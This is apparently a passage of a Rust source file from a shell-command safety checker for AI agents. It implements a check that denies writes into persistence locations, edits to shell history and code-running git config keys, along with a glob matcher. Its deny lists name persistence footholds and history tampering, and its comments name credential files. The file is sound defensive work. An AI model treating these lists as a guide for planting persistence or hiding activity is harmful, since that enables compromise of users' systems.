//! Phase 4 check 21 PERSISTENCE_TARGET (§5, §6.3): writes, links, copies, in-place edits and
//! installs whose target is a persistence location, scheduling and launch commands, and
//! `git config` writes.
//!
//! Also home to the path-glob matcher shared with check 23 ([`super::secrets`]): built-in
//! lists and the operator's `persistencePaths`/`secretPaths` globs use `*` (within one path
//! segment), `?` (one byte of a segment) and `**` (any number of whole segments, zero
//! included). A pattern starts with `~/` (any home directory, P4-R26), `/` (absolute),
//! `**/` (anywhere) or `<workspace>/`; any other pattern matches anywhere (`**/` is implied).

use super::{CheckCx, Findings};
use crate::shell::ast::Span;
use crate::shell::paths::{is_within, resolve};
use crate::shell::semantic::{Arg, ExecCommand};
use crate::shell::verdict::Reason;
use crate::shell::verdict::Severity;
use crate::shell::{EvalContext, Os};

/// Check id of PERSISTENCE_TARGET.
const ID: u8 = 21;

/// Paths longer than this many segments are not glob-matched (a bound on the matcher's work).
const MAX_SEGMENTS: usize = 1024;

/// Persistence locations of §6.3 (writes, links, copies, in-place edits).
const PERSISTENCE_LOCATIONS: &[&str] = &[
    // Shell startup files: run by every new shell.
    "~/.bashrc",
    "~/.bash_profile",
    "~/.bash_login",
    "~/.bash_logout",
    "~/.profile",
    "~/.zshrc",
    "~/.zshenv",
    "~/.zprofile",
    "~/.zlogin",
    "~/.zlogout",
    "~/.kshrc",
    "~/.cshrc",
    "~/.tcshrc",
    "~/.config/fish/config.fish",
    "~/.config/fish/conf.d/**",
    "/etc/profile",
    "/etc/profile.d/**",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/zsh/**",
    "/etc/zshrc",
    // SSH: who may log in, and what runs at login.
    "~/.ssh/authorized_keys*",
    "~/.ssh/config",
    "~/.ssh/rc",
    "~/.ssh/environment",
    // Schedulers.
    "/etc/cron*/**",
    "/var/spool/cron/**",
    "/etc/anacrontab",
    // systemd units.
    "~/.config/systemd/user/**",
    "/etc/systemd/system/**",
    "/lib/systemd/system/**",
    "/usr/lib/systemd/system/**",
    // launchd.
    "~/Library/LaunchAgents/**",
    "/Library/LaunchAgents/**",
    "/Library/LaunchDaemons/**",
    "~/Library/Preferences/com.apple.loginwindow*",
    // XDG autostart.
    "~/.config/autostart/**",
    "/etc/xdg/autostart/**",
    // init scripts.
    "/etc/rc.local",
    "/etc/init.d/**",
    "/etc/rc*.d/**",
    // Dynamic linker.
    "/etc/ld.so.preload",
    "/etc/ld.so.conf",
    "/etc/ld.so.conf.d/**",
    // git hooks and repository config (direct file writes).
    "**/.git/hooks/**",
    "**/.git/config",
    // Agent control files.
    "**/.claude/settings*.json",
    "**/.claude/hooks/**",
    "**/openclaw.json",
    "~/.openclaw/**",
    "<workspace>/.openclaw/**",
    "**/exec-approvals.json",
    "**/.mcp.json",
];

/// History files: any write, link, truncate or delete hides what ran (§6.3).
const HISTORY_FILES: &[&str] = &[
    "~/.bash_history",
    "~/.zsh_history",
    "~/.history",
    "~/.local/share/fish/fish_history",
];

/// git configuration keys whose value is run as code (§6.3). `*` stands for one subsection.
/// `credential.helper` and `alias.*` only count when the value starts with `!`.
pub(crate) const GIT_CODE_KEYS: &[&str] = &[
    "core.hookspath",
    "core.fsmonitor",
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.askpass",
    "diff.external",
    "diff.*.command",
    "diff.*.textconv",
    "filter.*.clean",
    "filter.*.smudge",
    "filter.*.process",
    "sequence.editor",
    "gpg.program",
    "include.path",
    "includeif.*.path",
    "uploadpack.packobjectshook",
];

/// Whether setting git key `key` to `value` makes git run code (§6.3).
pub(crate) fn git_key_runs_code(key: &str, value: Option<&str>) -> bool {
    let key = key.to_ascii_lowercase();
    let bang = value.is_none_or(|v| v.trim_start().starts_with('!'));
    if key == "credential.helper" || (key.starts_with("credential.") && key.ends_with(".helper")) {
        return bang;
    }
    if key.starts_with("alias.") {
        return bang;
    }
    GIT_CODE_KEYS.iter().any(|p| git_key_matches(p, &key))
}

/// `section.*.name` matches `section.<anything>.name`.
fn git_key_matches(pattern: &str, key: &str) -> bool {
    match pattern.split_once(".*.") {
        Some((section, name)) => key
            .strip_prefix(section)
            .and_then(|r| r.strip_prefix('.'))
            .and_then(|r| r.rsplit_once('.'))
            .is_some_and(|(sub, n)| !sub.is_empty() && n == name),
        None => key == pattern,
    }
}

// ---------------------------------------------------------------------------------------
// Paths and globs (shared with check 23).
// ---------------------------------------------------------------------------------------

/// The forms of one path operand that are matched against path lists (P4-R26).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct PathForms {
    /// Absolute forms: raw (joined, not normalised) and normalised.
    pub abs: Vec<String>,
    /// The same paths relative to a home directory (own home, `/home/*`, `/Users/*`, `/root`,
    /// or a `~user/` prefix), for `~/` patterns.
    pub home_rel: Vec<String>,
}

/// Resolves a path operand the way §4 does: `~` expanded, relative paths joined to the
/// working directory, raw and normalised forms both kept.
pub(crate) fn path_forms(value: &str, ctx: &EvalContext) -> PathForms {
    let mut f = PathForms::default();
    if value.is_empty() {
        return f;
    }
    let home = ctx.home.trim_end_matches('/');
    let raw = if value == "~" {
        home.to_string()
    } else if let Some(rest) = value.strip_prefix("~/") {
        format!("{home}/{rest}")
    } else if value.starts_with('/') {
        value.to_string()
    } else {
        let base = if ctx.cwd.is_empty() { "/" } else { &ctx.cwd };
        format!("{}/{value}", base.trim_end_matches('/'))
    };
    let norm = resolve(value, ctx);
    // `/proc/<pid>/root/…` is that process's view of `/…` (for most processes, this very
    // file system), so `/proc/1/root/etc/shadow` is `/etc/shadow`.
    let through_proc_root = proc_root_alias(&norm);
    for p in [Some(raw), Some(norm), through_proc_root]
        .into_iter()
        .flatten()
    {
        if !f.abs.contains(&p) {
            f.abs.push(p);
        }
    }
    // `~user/rest`: under "any home directory".
    if let Some(rest) = value.strip_prefix('~') {
        if let Some((user, rest)) = rest.split_once('/') {
            if !user.is_empty() && !user.starts_with(['+', '-']) {
                f.home_rel
                    .push(crate::shell::paths::normalize(rest).split_off(1));
            }
        }
    }
    let abs = f.abs.clone();
    for p in &abs {
        if let Some(rel) = home_relative(p, home, ctx.os) {
            if !f.home_rel.contains(&rel) {
                f.home_rel.push(rel);
            }
        }
    }
    f
}

/// `p` relative to the home directory that contains it, if any.
/// `/proc/<pid>/root/rest` as `/rest` (also `/proc/self/root`, `/proc/thread-self/root`).
fn proc_root_alias(norm: &str) -> Option<String> {
    let rest = norm.strip_prefix("/proc/")?;
    let (_pid, rest) = rest.split_once('/')?;
    let rest = rest.strip_prefix("root")?;
    if rest.is_empty() {
        return Some("/".to_string());
    }
    rest.starts_with('/').then(|| rest.to_string())
}

fn home_relative(p: &str, home: &str, os: Os) -> Option<String> {
    if !home.is_empty() && home != "/" && is_within(p, home, os) {
        return Some(p.get(home.len()..)?.trim_start_matches('/').to_string());
    }
    for root in ["/home/", "/Users/", "/var/home/"] {
        let head = p.get(..root.len());
        if head.is_some_and(|h| crate::shell::paths::same_path(h, root, os)) {
            let rest = p.get(root.len()..)?;
            let (_user, rel) = rest.split_once('/')?;
            return Some(rel.to_string());
        }
    }
    for root in ["/root/", "/var/root/"] {
        if let Some(rel) = p.strip_prefix(root) {
            return Some(rel.to_string());
        }
    }
    None
}

/// Where a pattern is anchored.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Anchor {
    /// `~/…`: relative to any home directory.
    Home,
    /// `<workspace>/…`: under the agent workspace.
    Workspace,
    /// `/…`, `**/…`, or implied `**/` (anywhere).
    Absolute,
}

/// One path pattern split into `/` segments once (see the module doc for the syntax).
#[derive(Debug, Clone)]
pub(crate) struct Glob<'p> {
    /// The pattern as written (reported in findings).
    pattern: &'p str,
    anchor: Anchor,
    /// Segments after the anchor; an implied `**/` is the first segment.
    segs: Vec<&'p str>,
    /// Segments without wildcards: each must equal some segment of a matching path.
    literals: Vec<&'p str>,
    /// [`segment_bits`] of the literals: a path whose [`path_bits`] lack one of these bits
    /// cannot match, which rules out most patterns with one AND.
    bits: u128,
    /// A blank pattern matches nothing.
    blank: bool,
}

/// One bit per path segment, from an ASCII-case-insensitive FNV-1a hash (case-insensitive so
/// that the same bits serve the case-folding macOS matching).
fn segment_bits(seg: &str) -> u128 {
    let h = seg.bytes().fold(0x811c_9dc5u32, |h, b| {
        (h ^ u32::from(b.to_ascii_lowercase())).wrapping_mul(0x0100_0193)
    });
    1u128 << ((h ^ (h >> 16)) & 127)
}

/// The union of [`segment_bits`] over every segment of every form of a path.
fn path_bits(abs: &[Vec<&str>], home: &[Vec<&str>]) -> u128 {
    abs.iter()
        .chain(home)
        .flatten()
        .fold(0, |m, seg| m | segment_bits(seg))
}

fn is_literal(seg: &str) -> bool {
    !seg.is_empty() && seg != "**" && !crate::shell::paths::has_any_byte(seg, b"*?")
}

impl<'p> Glob<'p> {
    /// Splits `pattern` by its anchor.
    pub(crate) fn new(pattern: &'p str) -> Glob<'p> {
        let (anchor, segs): (Anchor, Vec<&str>) = if let Some(rest) = pattern.strip_prefix("~/") {
            (Anchor::Home, rest.split('/').collect())
        } else if let Some(rest) = pattern.strip_prefix("<workspace>/") {
            (Anchor::Workspace, rest.split('/').collect())
        } else if pattern.starts_with('/') || pattern.starts_with("**") {
            (Anchor::Absolute, pattern.split('/').collect())
        } else {
            (
                Anchor::Absolute,
                std::iter::once("**").chain(pattern.split('/')).collect(),
            )
        };
        let literals: Vec<&str> = segs.iter().copied().filter(|s| is_literal(s)).collect();
        let bits = literals.iter().fold(0, |m, l| m | segment_bits(l));
        Glob {
            pattern,
            anchor,
            segs,
            literals,
            bits,
            blank: pattern.trim().is_empty(),
        }
    }

    /// Whether a path, given as the segments of its absolute and home-relative forms,
    /// matches.
    /// `bits` is [`path_bits`] of the same path.
    fn matches(
        &self,
        abs: &[Vec<&str>],
        home: &[Vec<&str>],
        bits: u128,
        ctx: &EvalContext,
    ) -> bool {
        // The pattern's literal segments must all occur in the path (the anchor's own
        // segments, such as the workspace's, are checked by `segments_match`).
        if self.blank || self.bits & !bits != 0 {
            return false;
        }
        let fold = ctx.os == Os::Macos;
        match self.anchor {
            Anchor::Home => home
                .iter()
                .any(|p| segments_match(&self.segs, &self.literals, p, fold)),
            Anchor::Absolute => abs
                .iter()
                .any(|p| segments_match(&self.segs, &self.literals, p, fold)),
            Anchor::Workspace => {
                if ctx.workspace.is_empty() {
                    return false;
                }
                let full: Vec<&str> = ctx
                    .workspace
                    .trim_end_matches('/')
                    .split('/')
                    .chain(self.segs.iter().copied())
                    .collect();
                let literals: Vec<&str> = full.iter().copied().filter(|s| is_literal(s)).collect();
                abs.iter()
                    .any(|p| segments_match(&full, &literals, p, fold))
            }
        }
    }
}

/// A built-in pattern list, split into [`Glob`]s once per process: these lists are matched
/// against every path operand of every command, the tail of the P4-R49 latency.
pub(crate) struct GlobList {
    patterns: &'static [&'static str],
    compiled: std::sync::OnceLock<Vec<Glob<'static>>>,
}

impl GlobList {
    /// A list over `patterns`, compiled on first use.
    pub(crate) const fn new(patterns: &'static [&'static str]) -> GlobList {
        GlobList {
            patterns,
            compiled: std::sync::OnceLock::new(),
        }
    }

    fn globs(&self) -> &[Glob<'static>] {
        self.compiled
            .get_or_init(|| self.patterns.iter().map(|p| Glob::new(p)).collect())
    }
}

type Segments<'a> = Vec<Vec<&'a str>>;

fn form_segments(forms: &PathForms) -> (Segments<'_>, Segments<'_>) {
    (split_all(&forms.abs), split_all(&forms.home_rel))
}

fn split_all(paths: &[String]) -> Segments<'_> {
    paths.iter().map(|p| p.split('/').collect()).collect()
}

/// The first pattern of `builtin` (then of `extra`) that matches a form of the path.
pub(crate) fn first_match<'p>(
    forms: &PathForms,
    builtin: &'p GlobList,
    extra: &'p [String],
    ctx: &EvalContext,
) -> Option<&'p str> {
    first_match_of(forms, &[(builtin, extra)], ctx).map(|(_, p)| p)
}

/// [`first_match`] over several pattern lists in order, splitting the path once: the index
/// of the list that matched and the pattern.
pub(crate) fn first_match_of<'p>(
    forms: &PathForms,
    lists: &[(&'p GlobList, &'p [String])],
    ctx: &EvalContext,
) -> Option<(usize, &'p str)> {
    let (abs, home) = form_segments(forms);
    let bits = path_bits(&abs, &home);
    lists.iter().enumerate().find_map(|(i, (builtin, extra))| {
        if let Some(g) = builtin
            .globs()
            .iter()
            .find(|g| g.matches(&abs, &home, bits, ctx))
        {
            return Some((i, g.pattern));
        }
        extra
            .iter()
            .map(|p| Glob::new(p))
            .find(|g| g.matches(&abs, &home, bits, ctx))
            .map(|g| (i, g.pattern))
    })
}

/// The first pattern of `builtin` (then of `extra`) that a path written as a shell glob
/// *may* match once the shell expands it: `cat /etc/shad*`, `cat ~/.aws/*`, `cat
/// ~/.ss?/id_rsa` and `cat /root/.[s]sh/id_rsa` read the files the literal matcher would
/// have named, but the words themselves are not those paths. Only for words with a glob
/// character; `*`, `?` and a bracket expression do not match a leading dot (bash without
/// `dotglob`), so `cat *` does not reach `.env` and `cat ~/*` does not reach `~/.ssh`.
pub(crate) fn first_glob_match<'p>(
    forms: &PathForms,
    builtin: &'p GlobList,
    extra: &'p [String],
    ctx: &EvalContext,
) -> Option<&'p str> {
    let (abs, home) = form_segments(forms);
    let fold = ctx.os == Os::Macos;
    let hits = |g: &Glob<'_>| match g.anchor {
        Anchor::Home => home
            .iter()
            .any(|p| globs_may_meet(&g.segs, p, (fold, false), 0)),
        // `**/LastPass/**` may be anywhere: a segment of the user's glob made only of
        // wildcards (`cat src/*/x.py`) shows no aim at its named directory.
        Anchor::Absolute if g.segs.first() == Some(&"**") => abs
            .iter()
            .any(|p| globs_may_meet(&g.segs, p, (fold, true), 0)),
        Anchor::Absolute => abs
            .iter()
            .any(|p| globs_may_meet(&g.segs, p, (fold, false), 0)),
        Anchor::Workspace => {
            let full: Vec<&str> = ctx
                .workspace
                .trim_end_matches('/')
                .split('/')
                .chain(g.segs.iter().copied())
                .collect();
            !ctx.workspace.is_empty()
                && abs
                    .iter()
                    .any(|p| globs_may_meet(&full, p, (fold, false), 0))
        }
    };
    if let Some(g) = builtin.globs().iter().find(|g| !g.blank && hits(g)) {
        return Some(g.pattern);
    }
    extra
        .iter()
        .find(|p| {
            let g = Glob::new(p);
            !g.blank && hits(&g)
        })
        .map(String::as_str)
}

/// The first anchored pattern of `builtin` (then `extra`) naming a path inside the tree at
/// `root` (absolute, normalised), with whether everything at `root` is secret (the root
/// lies inside a `DIR/**` pattern's directory). `find ~/.aws -exec cat {} +` reads every
/// file of the tree, `~/.aws/credentials` among them. Patterns that may match anywhere
/// (`**/.ssh/**`) are left to the name matcher.
pub(crate) fn tree_holds<'p>(
    root: &str,
    builtin: &'p GlobList,
    extra: &'p [String],
    ctx: &EvalContext,
) -> Option<(&'p str, bool)> {
    let home = ctx.home.trim_end_matches('/');
    let check = |g: &Glob<'p>| -> Option<(&'p str, bool)> {
        let base = match g.anchor {
            Anchor::Home if !home.is_empty() => home.to_string(),
            Anchor::Absolute if g.segs.first() == Some(&"") => String::new(),
            _ => return None,
        };
        let segs = if g.anchor == Anchor::Absolute {
            g.segs.get(1..)?
        } else {
            &g.segs[..]
        };
        let fixed: Vec<&str> = segs.iter().copied().take_while(|s| is_literal(s)).collect();
        if fixed.is_empty() {
            return None;
        }
        let prefix = format!("{base}/{}", fixed.join("/"));
        let all_below = fixed.len() + 1 == segs.len() && segs.last() == Some(&"**");
        if is_within(&prefix, root, ctx.os) {
            Some((g.pattern, all_below && prefix == root))
        } else if is_within(root, &prefix, ctx.os)
            && segs
                .get(fixed.len()..)
                .is_some_and(|rest| rest.contains(&"**"))
        {
            Some((g.pattern, all_below))
        } else {
            None
        }
    };
    builtin
        .globs()
        .iter()
        .find_map(&check)
        .or_else(|| extra.iter().find_map(|p| check(&Glob::new(p))))
}

/// Whether pattern segments `p` may match some path the user's glob segments `s` expand
/// to (`(fold case, strict)`: when strict, a wildcard-only segment meets only `**`).
/// Bounded by [`MAX_SEGMENTS`] and the recursion `depth`.
fn globs_may_meet(p: &[&str], s: &[&str], mode: (bool, bool), depth: usize) -> bool {
    if depth > 2 * MAX_SEGMENTS || p.len() > MAX_SEGMENTS || s.len() > MAX_SEGMENTS {
        return false;
    }
    match (p.split_first(), s.split_first()) {
        (None, None) => true,
        (Some((&"**", rest)), _) => (0..=s.len()).any(|k| {
            s.get(k..)
                .is_some_and(|t| globs_may_meet(rest, t, mode, depth + 1))
        }),
        (Some((ph, pt)), Some((sh, st))) => {
            let (fold, strict) = mode;
            // Strict: the user's segment must spell at least half of a named one (`.ss?`
            // for `.ssh`, `id_*` for `id_rsa`; not `*` or `*.json` for `logins.json`).
            segment_may_meet(ph, sh, fold, strict) && globs_may_meet(pt, st, mode, depth + 1)
        }
        _ => false,
    }
}

/// A glob segment with each bracket expression (`[s]`, `[0-9]`) read as `?`: it matches one
/// character, which `?` over-approximates for [`segment_match`] (which knows `*` and `?`).
pub(crate) fn brackets_as_any(glob: &str) -> String {
    let mut out = String::with_capacity(glob.len());
    let mut in_bracket = false;
    for ch in glob.chars() {
        match ch {
            '[' if !in_bracket => {
                in_bracket = true;
                out.push('?');
            }
            ']' if in_bracket => in_bracket = false,
            _ if in_bracket => {}
            _ => out.push(ch),
        }
    }
    out
}

/// One pattern segment against one segment of the user's glob. `strict` (a pattern that
/// may match anywhere, `**/LastPass/**`): the user's segment must spell at least half of a
/// named segment (`.ss?` for `.ssh`, `id_*` for `id_rsa`; not `*`, `*.json` for
/// `logins.json` or `.*` for `*.kdbx`), so an ordinary glob is not read as aimed at it.
fn segment_may_meet(pat: &str, user: &str, fold: bool, strict: bool) -> bool {
    if !crate::shell::paths::has_any_byte(user, b"*?[") {
        return segment_match(pat.as_bytes(), user.as_bytes(), fold);
    }
    let u = brackets_as_any(user);
    if pat.starts_with('.') && !u.starts_with('.') {
        return false;
    }
    let plain = |x: &str| x.replace('*', "").replace('?', "x");
    if is_literal(pat) {
        let spelled = u.bytes().filter(|b| !b"*?".contains(b)).count();
        (!strict || spelled * 2 >= pat.len()) && segment_match(u.as_bytes(), pat.as_bytes(), fold)
    } else if strict {
        segment_match(pat.as_bytes(), plain(&u).as_bytes(), fold)
    } else {
        segment_match(u.as_bytes(), plain(pat).as_bytes(), fold)
            || segment_match(pat.as_bytes(), plain(&u).as_bytes(), fold)
    }
}

/// Glob match of a `/`-separated path against a pattern: `**` as a whole segment matches any
/// number of segments (zero included), `*` any run of bytes within a segment, `?` one byte.
/// Case-insensitive (ASCII) when `fold`. Linear-with-backtracking, bounded by
/// `segments(pattern) × segments(path)`.
#[cfg(test)]
pub(crate) fn glob_match(pattern: &str, path: &str, fold: bool) -> bool {
    let p: Vec<&str> = pattern.split('/').collect();
    let literals: Vec<&str> = p.iter().copied().filter(|s| is_literal(s)).collect();
    let s: Vec<&str> = path.split('/').collect();
    segments_match(&p, &literals, &s, fold)
}

/// [`glob_match`] on split pattern and path.
fn segments_match(p: &[&str], literals: &[&str], s: &[&str], fold: bool) -> bool {
    let same = |a: &str, b: &str| {
        if fold {
            a.eq_ignore_ascii_case(b)
        } else {
            a == b
        }
    };
    // Cheap rejection: a segment without wildcards only matches an equal path segment.
    if !literals.iter().all(|l| s.iter().any(|x| same(l, x))) {
        return false;
    }
    if s.len() > MAX_SEGMENTS || p.len() > MAX_SEGMENTS {
        return false;
    }
    wildcard(
        p,
        s,
        |a, b| *a == "**" && b.is_some(),
        |a, b| segment_match(a.as_bytes(), b.as_bytes(), fold),
    )
}

/// The classic two-pointer wildcard algorithm over any sequence: `is_star(p)` marks items
/// matching any run, `eq(p, s)` single-item matches.
fn wildcard<T, U>(
    p: &[T],
    s: &[U],
    is_star: impl Fn(&T, Option<()>) -> bool,
    eq: impl Fn(&T, &U) -> bool,
) -> bool {
    let (mut i, mut j) = (0usize, 0usize);
    let mut star: Option<(usize, usize)> = None;
    // Each round advances `j` or the star's mark; both are bounded by `s.len()`.
    let budget = (s.len() + 1).saturating_mul(p.len() + 2);
    for _ in 0..budget {
        if j >= s.len() {
            break;
        }
        match (p.get(i), s.get(j)) {
            (Some(pi), _) if is_star(pi, Some(())) => {
                star = Some((i, j));
                i += 1;
            }
            (Some(pi), Some(sj)) if eq(pi, sj) => {
                i += 1;
                j += 1;
            }
            _ => match star {
                Some((si, mark)) => {
                    i = si + 1;
                    j = mark + 1;
                    star = Some((si, mark + 1));
                }
                None => return false,
            },
        }
    }
    if j < s.len() {
        return false;
    }
    while p.get(i).is_some_and(|x| is_star(x, Some(()))) {
        i += 1;
    }
    i == p.len()
}

/// One path segment against one glob segment (`*` and `?`, no `/`).
pub(crate) fn segment_match(p: &[u8], s: &[u8], fold: bool) -> bool {
    wildcard(
        p,
        s,
        |c, _| *c == b'*',
        |a, b| *a == b'?' || a == b || (fold && a.eq_ignore_ascii_case(b)),
    )
}

// ---------------------------------------------------------------------------------------
// Option helpers (shared with checks 15 and 23).
// ---------------------------------------------------------------------------------------

/// Values of one option in `args`, getopt style (P4-R30): the short letter `short` may be
/// bundled (`-sSLo FILE`, `-oFILE`); a letter of `short_values` earlier in a bundle takes the
/// rest as its own value and ends the bundle. The long option `long` may be given in full or
/// as a prefix of at least 2 characters, with `=VALUE` or a separate value. Options stop at
/// `--`. Each hit is `(value when Known, span)`; a missing value is `(None, span)`.
pub(crate) fn option_values(
    args: &[Arg],
    short: Option<char>,
    long: &[&str],
    short_values: &str,
) -> Vec<(Option<String>, Span)> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(a) = args.get(i) {
        i += 1;
        let Some(t) = a.value.as_deref() else {
            continue;
        };
        if t == "--" {
            break;
        }
        if let Some(body) = t.strip_prefix("--") {
            let (name, inline) = match body.split_once('=') {
                Some((n, v)) => (n, Some(v)),
                None => (body, None),
            };
            if long_matches(name, long) {
                match inline {
                    Some(v) => out.push((Some(v.to_string()), a.span)),
                    None => {
                        let next = args.get(i);
                        out.push((next.and_then(|n| n.value.clone()), a.span));
                        i += 1;
                    }
                }
            }
            continue;
        }
        let Some(bundle) = t.strip_prefix('-') else {
            continue;
        };
        let Some(s) = short else { continue };
        if bundle.is_empty() {
            continue;
        }
        for (k, ch) in bundle.char_indices() {
            let rest = bundle.get(k + ch.len_utf8()..).unwrap_or("");
            if ch == s {
                if rest.is_empty() {
                    out.push((args.get(i).and_then(|n| n.value.clone()), a.span));
                    i += 1;
                } else {
                    out.push((Some(rest.to_string()), a.span));
                }
                break;
            }
            if short_values.contains(ch) {
                if rest.is_empty() {
                    i += 1;
                }
                break;
            }
        }
    }
    out
}

/// `name` (as given after `--`) is one of `long`, or a prefix of ≥ 2 characters of one.
pub(crate) fn long_matches(name: &str, long: &[&str]) -> bool {
    !name.is_empty()
        && long
            .iter()
            .any(|l| *l == name || (name.len() >= 2 && l.starts_with(name)))
}

/// Whether a short-option bundle (`-xyz`, not `--…`) contains `ch` before any letter of
/// `short_values` (whose value would swallow the rest).
pub(crate) fn bundle_has(a: &Arg, ch: char, short_values: &str) -> bool {
    let t = a.text();
    let Some(b) = t.strip_prefix('-') else {
        return false;
    };
    if b.starts_with('-') || b.is_empty() {
        return false;
    }
    for c in b.chars() {
        if c == ch {
            return true;
        }
        if short_values.contains(c) {
            return false;
        }
    }
    false
}

/// Operands: known words not starting with `-` (after `--`, every word), skipping the values
/// of the short options in `short_values` and long options in `long_values`.
pub(crate) fn operands<'a>(
    args: &'a [Arg],
    short_values: &str,
    long_values: &[&str],
) -> Vec<&'a Arg> {
    let mut out = Vec::new();
    let mut i = 0;
    let mut done = false;
    while let Some(a) = args.get(i) {
        i += 1;
        let t = a.text();
        if done || a.value.is_none() {
            out.push(a);
            continue;
        }
        if t == "--" {
            done = true;
            continue;
        }
        if let Some(body) = t.strip_prefix("--") {
            if !body.contains('=') && long_values.contains(&body) {
                i += 1;
            }
            continue;
        }
        if let Some(b) = t.strip_prefix('-') {
            if b.is_empty() {
                out.push(a);
                continue;
            }
            for (k, c) in b.char_indices() {
                if short_values.contains(c) {
                    if b.get(k + c.len_utf8()..).is_some_and(str::is_empty) {
                        i += 1;
                    }
                    break;
                }
            }
            continue;
        }
        out.push(a);
    }
    out
}

fn sp(s: Span) -> (u32, u32) {
    (s.start, s.end)
}

// ---------------------------------------------------------------------------------------
// Check 21.
// ---------------------------------------------------------------------------------------

/// How a command touches a path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Touch {
    /// Writes, appends, truncates, copies or moves into, edits in place, installs.
    Write,
    /// Creates a link (either end).
    Link,
    /// Deletes (only history files count).
    Delete,
}

impl Touch {
    fn verb(self) -> &'static str {
        match self {
            Touch::Write => "writes",
            Touch::Link => "links",
            Touch::Delete => "deletes",
        }
    }
}

/// Runs check 21 (PERSISTENCE_TARGET).
pub fn run(cx: &CheckCx<'_>, out: &mut Findings, _reasons: &mut Vec<Reason>) {
    for c in &cx.model.commands {
        for (value, span, touch) in targets(c) {
            target(cx, c, &value, span, touch, out);
        }
        scheduling(c, out);
        git_config(c, out);
    }
}

static HISTORY_GLOBS: GlobList = GlobList::new(HISTORY_FILES);
static PERSISTENCE_GLOBS: GlobList = GlobList::new(PERSISTENCE_LOCATIONS);

fn target(
    cx: &CheckCx<'_>,
    c: &ExecCommand,
    value: &str,
    span: Span,
    touch: Touch,
    out: &mut Findings,
) {
    let forms = path_forms(value, cx.ctx);
    // Deleting a persistence file removes a foothold rather than adding one; only history
    // files matter for deletes.
    let lists: &[(&GlobList, &[String])] = if touch == Touch::Delete {
        &[(&HISTORY_GLOBS, &[])]
    } else {
        &[
            (&HISTORY_GLOBS, &[]),
            (&PERSISTENCE_GLOBS, &cx.cfg.persistence_paths),
        ]
    };
    let hit = first_match_of(&forms, lists, cx.ctx).map(|(i, p)| (p, i == 0));
    if let Some((pattern, history)) = hit {
        let what = c.base_name().unwrap_or("a redirection");
        let why = if history {
            "a shell history file (changing it hides what ran)"
        } else {
            "a persistence location (it makes code run later, at login, on a schedule or in another tool)"
        };
        out.add(
            ID,
            Severity::Deny,
            sp(span),
            format!(
                "`{what}` {} `{value}`, {why}; matched `{pattern}`. Change such files yourself, outside the agent.",
                touch.verb()
            ),
        );
    }
}

/// Every path the command writes, links or deletes.
fn targets(c: &ExecCommand) -> Vec<(String, Span, Touch)> {
    let mut t: Vec<(String, Span, Touch)> = Vec::new();
    for r in &c.redirs {
        if r.op.writes() && r.is_file {
            if let Some(v) = &r.target {
                t.push((v.clone(), r.span, Touch::Write));
            }
        }
    }
    let Some(name) = c.base_name() else {
        return t;
    };
    let args = c.args();
    let push_ops = |t: &mut Vec<(String, Span, Touch)>, ops: &[&Arg], touch: Touch| {
        for a in ops {
            if let Some(v) = &a.value {
                t.push((v.clone(), a.span, touch));
            }
        }
    };
    match name {
        "tee" => push_ops(&mut t, &operands(args, "", &[]), Touch::Write),
        "cp" | "mv" | "install" | "ginstall" | "gcp" | "gmv" => {
            if name.ends_with("install") && args.iter().any(|a| bundle_has(a, 'd', "mogtS")) {
                return t;
            }
            copy_targets(
                args,
                "StmogZ",
                &["suffix", "target-directory", "mode", "owner", "group"],
                Touch::Write,
                &mut t,
            );
        }
        "ln" | "link" => {
            let ops = operands(args, "St", &["suffix", "target-directory"]);
            push_ops(&mut t, &ops, Touch::Link);
            for (v, s) in option_values(args, Some('t'), &["target-directory"], "S") {
                if let Some(v) = v {
                    t.push((v, s, Touch::Link));
                }
            }
            if let [only] = ops.as_slice() {
                if let Some(v) = &only.value {
                    let base = crate::shell::paths::basename(v.trim_end_matches('/'));
                    t.push((base.to_string(), only.span, Touch::Link));
                }
            }
        }
        "rsync" | "scp" => {
            let ops = operands(
                args,
                if name == "rsync" {
                    "efBMT"
                } else {
                    "cDFiJloPSX"
                },
                &[],
            );
            if let Some((dest, srcs)) = ops.split_last() {
                if let Some(d) = dest.value.as_deref().filter(|d| !is_remote(d)) {
                    t.push((d.to_string(), dest.span, Touch::Write));
                    for s in srcs {
                        if let Some(b) = s.value.as_deref().and_then(basename) {
                            t.push((
                                format!("{}/{b}", d.trim_end_matches('/')),
                                dest.span,
                                Touch::Write,
                            ));
                        }
                    }
                }
            }
        }
        "sed" | "gsed" => {
            let in_place = args.iter().any(|a| {
                bundle_has(a, 'i', "efl")
                    || a.text().strip_prefix("--").is_some_and(|n| {
                        long_matches(n.split('=').next().unwrap_or(n), &["in-place"])
                            && n.starts_with("in")
                    })
            });
            if in_place {
                let has_script_opt = args.iter().any(|a| {
                    bundle_has(a, 'e', "fl")
                        || bundle_has(a, 'f', "el")
                        || a.text().starts_with("--expression")
                        || a.text().starts_with("--file")
                });
                let ops = operands(args, "efl", &["expression", "file", "line-length"]);
                let files = if has_script_opt {
                    &ops[..]
                } else {
                    ops.get(1..).unwrap_or(&[])
                };
                push_ops(&mut t, files, Touch::Write);
            }
        }
        "perl" if args.iter().any(|a| bundle_has(a, 'i', "eEIMmxC")) => {
            let has_code = args
                .iter()
                .any(|a| bundle_has(a, 'e', "iIMmxC") || bundle_has(a, 'E', "iIMmxC"));
            let ops = operands(args, "eEIM", &[]);
            let files = if has_code {
                &ops[..]
            } else {
                ops.get(1..).unwrap_or(&[])
            };
            push_ops(&mut t, files, Touch::Write);
        }
        "dd" => {
            for a in args {
                if let Some(v) = a.text().strip_prefix("of=") {
                    t.push((v.to_string(), a.span, Touch::Write));
                }
            }
        }
        "sort" | "gsort" => {
            values_into(&mut t, args, Some('o'), &["output"], "ktSTy", Touch::Write)
        }
        "time" => values_into(&mut t, args, Some('o'), &["output"], "f", Touch::Write),
        "curl" => values_into(
            &mut t,
            args,
            Some('o'),
            &["output"],
            "dHXuAeFTwxKbcrmECYyzPQ",
            Touch::Write,
        ),
        "wget" => {
            values_into(
                &mut t,
                args,
                Some('O'),
                &["output-document"],
                "eoaiBtTwQPUlARDIX",
                Touch::Write,
            );
            values_into(
                &mut t,
                args,
                Some('o'),
